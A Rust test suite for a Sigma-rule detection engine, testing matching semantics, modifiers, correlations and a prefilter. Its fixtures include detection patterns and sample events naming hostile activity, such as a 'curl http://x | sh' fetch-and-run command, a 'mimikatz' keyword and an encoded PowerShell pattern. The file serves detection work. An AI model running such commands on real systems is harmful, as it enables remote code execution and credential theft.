//! The Sigma semantics seclog guarantees, whatever engine runs underneath.

use std::path::Path;

use seclog_detect::{Detector, MatchKind, RuleLibrary, SigmaEngine};
use serde_json::{Value, json};

fn engine(rules: &str) -> SigmaEngine {
    let mut library = RuleLibrary::default();
    library.add_text(Path::new("test.yml"), rules);
    assert!(
        library.unsupported.is_empty(),
        "unexpected refusals: {:?}",
        library.unsupported
    );
    let (engine, report) = SigmaEngine::unrouted(&library, &[]);
    assert!(report.failed.is_empty(), "{:?}", report.failed);
    engine
}

fn rule(detection: &str) -> String {
    format!(
        "title: t\nid: 11111111-1111-4111-8111-111111111111\nlogsource:\n  product: test\ndetection:\n{detection}\nlevel: high\n"
    )
}

fn matches(engine: &mut SigmaEngine, event: Value) -> bool {
    !engine.process("g", &event, 0, "g:0").is_empty()
}

#[test]
fn null_matches_a_missing_field_and_a_json_null() {
    let mut engine = engine(&rule(
        "  selection:\n    eventName: DeleteBucket\n    errorCode: null\n  condition: selection",
    ));
    assert!(matches(&mut engine, json!({"eventName": "DeleteBucket"})));
    assert!(matches(
        &mut engine,
        json!({"eventName": "DeleteBucket", "errorCode": null})
    ));
    assert!(!matches(
        &mut engine,
        json!({"eventName": "DeleteBucket", "errorCode": "AccessDenied"})
    ));
}

#[test]
fn dotted_paths_walk_objects_and_fan_out_over_arrays() {
    let mut engine = engine(&rule(
        "  selection:\n    requestParameters.containerDefinitions.command|contains: curl\n  condition: selection",
    ));
    let event = json!({"requestParameters": {"containerDefinitions": [
        {"command": ["sh", "-c", "echo hi"]},
        {"command": ["sh", "-c", "curl http://x | sh"]}
    ]}});
    assert!(matches(&mut engine, event));
    assert!(!matches(
        &mut engine,
        json!({"requestParameters": {"containerDefinitions": [{"command": ["ls"]}]}})
    ));
    // A flat key with the dotted name wins over the nested path.
    assert!(matches(
        &mut engine,
        json!({"requestParameters.containerDefinitions.command": "curl x"})
    ));
}

#[test]
fn booleans_and_numbers_compare_with_their_string_forms() {
    let mut engine = engine(&rule(
        "  selection:\n    responseElements.publiclyAccessible: 'true'\n    port: '22'\n  condition: selection",
    ));
    assert!(matches(
        &mut engine,
        json!({"responseElements": {"publiclyAccessible": true}, "port": 22})
    ));
    assert!(matches(
        &mut engine,
        json!({"responseElements": {"publiclyAccessible": "TRUE"}, "port": "22"})
    ));
    assert!(!matches(
        &mut engine,
        json!({"responseElements": {"publiclyAccessible": false}, "port": 22})
    ));
}

#[test]
fn an_object_value_does_not_match_a_string_modifier() {
    let mut engine = engine(&rule(
        "  selection:\n    requestParameters|contains: Suspended\n  condition: selection",
    ));
    assert!(!matches(
        &mut engine,
        json!({"requestParameters": {"VersioningConfiguration": {"Status": "Suspended"}}})
    ));
    assert!(matches(
        &mut engine,
        json!({"requestParameters": "Status=Suspended"})
    ));
}

#[test]
fn matching_is_case_insensitive_unless_cased_and_whole_value_by_default() {
    let mut engine = engine(&rule(
        "  a:\n    eventName: consolelogin\n  b:\n    userAgent|cased|contains: Boto\n  condition: a and b",
    ));
    assert!(matches(
        &mut engine,
        json!({"eventName": "ConsoleLogin", "userAgent": "x Boto3 y"})
    ));
    assert!(!matches(
        &mut engine,
        json!({"eventName": "ConsoleLogin", "userAgent": "x boto3 y"})
    ));
    assert!(!matches(
        &mut engine,
        json!({"eventName": "ConsoleLoginX", "userAgent": "Boto"})
    ));
}

#[test]
fn modifiers_used_by_sigmahq_work() {
    let mut engine = engine(&rule(concat!(
        "  cidr:\n    sourceIPAddress|cidr: 10.0.0.0/8\n",
        "  windash:\n    cmd|windash|contains: ' -enc '\n",
        "  b64:\n    data|base64offset|contains: whoami\n",
        "  re:\n    ua|re: '^aws-cli/[0-9]+'\n",
        "  all:\n    tags|contains|all:\n      - alpha\n      - beta\n",
        "  num:\n    count|gte: 10\n",
        "  ref:\n    a|fieldref: b\n",
        "  ex:\n    present|exists: true\n",
        "  condition: 1 of them",
    )));
    let hit = |engine: &mut SigmaEngine, event: Value| {
        engine
            .process("g", &event, 0, "g:0")
            .first()
            .map(|m| m.fields.iter().map(|(f, _)| f.clone()).collect::<Vec<_>>())
            .unwrap_or_default()
    };
    assert!(
        hit(&mut engine, json!({"sourceIPAddress": "10.1.2.3"}))
            .contains(&"sourceIPAddress".to_string())
    );
    assert!(hit(&mut engine, json!({"sourceIPAddress": "11.1.2.3"})).is_empty());
    assert!(!hit(&mut engine, json!({"cmd": "powershell /enc AAA"})).is_empty());
    // "whoami" base64-encoded at offset 0: d2hvYW1p
    assert!(!hit(&mut engine, json!({"data": "xx d2hvYW1p yy"})).is_empty());
    assert!(!hit(&mut engine, json!({"ua": "aws-cli/2.0"})).is_empty());
    assert!(hit(&mut engine, json!({"ua": "boto3 aws-cli/2.0"})).is_empty());
    assert!(!hit(&mut engine, json!({"tags": "alpha beta"})).is_empty());
    assert!(hit(&mut engine, json!({"tags": "alpha"})).is_empty());
    assert!(!hit(&mut engine, json!({"count": 12})).is_empty());
    assert!(hit(&mut engine, json!({"count": 9})).is_empty());
    assert!(!hit(&mut engine, json!({"a": "x", "b": "x"})).is_empty());
    assert!(hit(&mut engine, json!({"a": "x", "b": "y"})).is_empty());
    assert!(!hit(&mut engine, json!({"present": ""})).is_empty());
}

#[test]
fn regexes_the_linear_time_engine_cannot_run_make_the_rule_unsupported() {
    let mut library = RuleLibrary::default();
    library.add_text(
        Path::new("lookaround.yml"),
        &rule("  selection:\n    cmd|re: 'foo(?=bar)'\n  condition: selection"),
    );
    library.add_text(
        Path::new("backref.yml"),
        &rule("  selection:\n    cmd|re: '(a)\\1'\n  condition: selection"),
    );
    assert!(library.rules.is_empty());
    assert_eq!(library.unsupported.len(), 2, "{:?}", library.unsupported);
    for refused in &library.unsupported {
        assert!(refused.rule.as_deref() == Some("t"));
        assert!(!refused.reason.is_empty());
    }
}

#[test]
fn unexpanded_placeholders_are_refused() {
    let mut library = RuleLibrary::default();
    library.add_text(
        Path::new("placeholder.yml"),
        &rule("  selection:\n    user|expand: '%Administrators%'\n  condition: selection"),
    );
    assert!(library.rules.is_empty());
    assert!(library.unsupported[0].reason.contains("%Administrators%"));
}

#[test]
fn conditions_and_filters_follow_the_spec() {
    let mut engine = engine(&rule(concat!(
        "  sel_a:\n    x: 1\n  sel_b:\n    y: 2\n  _hidden:\n    z: 3\n  filter:\n    user: admin\n",
        "  condition: (all of sel_* or 1 of them) and not filter",
    )));
    assert!(matches(&mut engine, json!({"x": 1})));
    assert!(!matches(&mut engine, json!({"x": 1, "user": "admin"})));
    // `them` leaves out identifiers that start with an underscore.
    assert!(!matches(&mut engine, json!({"z": 3})));
}

fn correlation_engine(kind: &str, extra: &str) -> SigmaEngine {
    engine(&format!(
        "title: base a\nname: base_a\nlogsource:\n  product: test\ndetection:\n  s:\n    action: a\n  condition: s\n---\n\
         title: base b\nname: base_b\nlogsource:\n  product: test\ndetection:\n  s:\n    action: b\n  condition: s\n---\n\
         title: corr\nid: 22222222-2222-4222-8222-222222222222\ncorrelation:\n  type: {kind}\n{extra}  timespan: 60s\nlevel: high\n"
    ))
}

fn feed(engine: &mut SigmaEngine, events: &[(i64, Value)]) -> Vec<(usize, Vec<String>)> {
    let mut fired = Vec::new();
    for (index, (time, event)) in events.iter().enumerate() {
        for matched in engine.process("g", event, *time, &format!("g:{index}")) {
            if let MatchKind::Correlation(_) = matched.kind {
                fired.push((index, matched.evidence));
            }
        }
    }
    fired
}

#[test]
fn event_count_fires_when_the_window_holds_enough_and_starts_again() {
    let mut engine = correlation_engine(
        "event_count",
        "  rules: [base_a]\n  group-by: [user]\n  condition:\n    gte: 3\n",
    );
    let a = |user: &str| json!({"action": "a", "user": user});
    let events = vec![
        (0, a("u")),
        (10, a("v")),
        (30, a("u")),
        (100, a("u")), // the first u is out of the 60 s window: two in it
        (110, a("u")), // 30 is out of the 60 s window [50, 110]: two in it
        (111, a("u")), // three: fires
        (112, a("u")), // the window starts again after firing
        (113, a("u")),
    ];
    let fired = feed(&mut engine, &events);
    assert_eq!(fired.len(), 1, "{fired:?}");
    assert_eq!(fired[0].0, 5);
    assert_eq!(fired[0].1, ["g:3", "g:4", "g:5"]);
}

#[test]
fn value_count_counts_distinct_values() {
    let mut engine = correlation_engine(
        "value_count",
        "  rules: [base_a]\n  group-by: [src]\n  condition:\n    field: user\n    gte: 3\n",
    );
    let a = |user: &str| json!({"action": "a", "src": "1.2.3.4", "user": user});
    let fired = feed(
        &mut engine,
        &[
            (0, a("x")),
            (1, a("x")),
            (2, a("y")),
            (3, a("y")),
            (4, a("z")),
        ],
    );
    assert_eq!(fired.iter().map(|f| f.0).collect::<Vec<_>>(), [4]);
}

#[test]
fn temporal_and_temporal_ordered() {
    let events = |first: &str, second: &str| {
        vec![
            (0, json!({"action": first, "host": "h"})),
            (5, json!({"action": second, "host": "h"})),
        ]
    };
    let mut any_order = correlation_engine(
        "temporal",
        "  rules: [base_a, base_b]\n  group-by: [host]\n",
    );
    let fired = feed(&mut any_order, &events("b", "a"));
    assert_eq!(fired.len(), 1, "{fired:?}");
    let mut ordered = correlation_engine(
        "temporal_ordered",
        "  rules: [base_a, base_b]\n  group-by: [host]\n",
    );
    assert_eq!(feed(&mut ordered, &events("b", "a")).len(), 0);
    let mut ordered = correlation_engine(
        "temporal_ordered",
        "  rules: [base_a, base_b]\n  group-by: [host]\n",
    );
    assert_eq!(feed(&mut ordered, &events("a", "b")).len(), 1);
}

#[test]
fn window_state_survives_a_snapshot() {
    let make = || {
        correlation_engine(
            "event_count",
            "  rules: [base_a]\n  group-by: [user]\n  condition:\n    gte: 3\n",
        )
    };
    let a = json!({"action": "a", "user": "u"});
    let mut first = make();
    assert!(feed(&mut first, &[(0, a.clone()), (1, a.clone())]).is_empty());
    let snapshot = first.snapshot();
    let mut second = make();
    assert!(second.restore(&snapshot));
    assert_eq!(second.process("g", &a, 2, "g:2").len(), 1);
}

/// Large rule sets run behind the cross-rule Aho-Corasick prefilter: it must not lose matches
/// of substring, keyword, null or array-path rules.
#[test]
fn the_prefilter_of_large_rule_sets_keeps_every_match() {
    let mut text = String::new();
    for index in 0..520 {
        text.push_str(&format!(
            "title: filler {index}\nid: 00000000-0000-4000-8000-{index:012}\nlogsource:\n  product: test\ndetection:\n  s:\n    CommandLine|contains: filler-pattern-{index}-end\n  condition: s\nlevel: low\n---\n"
        ));
    }
    text.push_str(concat!(
        "title: target contains\nid: 10000000-0000-4000-8000-000000000001\nlogsource:\n  product: test\n",
        "detection:\n  s:\n    requestParameters.containerDefinitions.command|contains: curl\n  condition: s\nlevel: high\n---\n",
        "title: target keyword\nid: 10000000-0000-4000-8000-000000000002\nlogsource:\n  product: test\n",
        "detection:\n  keywords:\n    - 'mimikatz'\n  condition: keywords\nlevel: high\n---\n",
        "title: target null\nid: 10000000-0000-4000-8000-000000000003\nlogsource:\n  product: test\n",
        "detection:\n  s:\n    eventName: DeleteBucket\n    errorCode: null\n  condition: s\nlevel: high\n",
    ));
    let mut library = RuleLibrary::default();
    library.add_text(Path::new("large.yml"), &text);
    assert_eq!(library.rules.len(), 523, "{:?}", library.unsupported);
    let (mut engine, _) = SigmaEngine::unrouted(&library, &[]);
    let titles = |engine: &mut SigmaEngine, event: Value| -> Vec<String> {
        engine
            .process("g", &event, 0, "g:0")
            .into_iter()
            .map(|m| m.rule.title)
            .collect()
    };
    assert_eq!(
        titles(
            &mut engine,
            json!({"requestParameters": {"containerDefinitions": [{"command": ["sh", "-c", "CURL x"]}]}})
        ),
        ["target contains"]
    );
    assert_eq!(
        titles(&mut engine, json!({"a": {"b": ["x", "run Mimikatz now"]}})),
        ["target keyword"]
    );
    assert_eq!(
        titles(&mut engine, json!({"eventName": "DeleteBucket"})),
        ["target null"]
    );
    assert_eq!(
        titles(
            &mut engine,
            json!({"CommandLine": "x filler-pattern-517-end y"})
        ),
        ["filler 517"]
    );
    assert!(titles(&mut engine, json!({"CommandLine": "nothing here"})).is_empty());
}
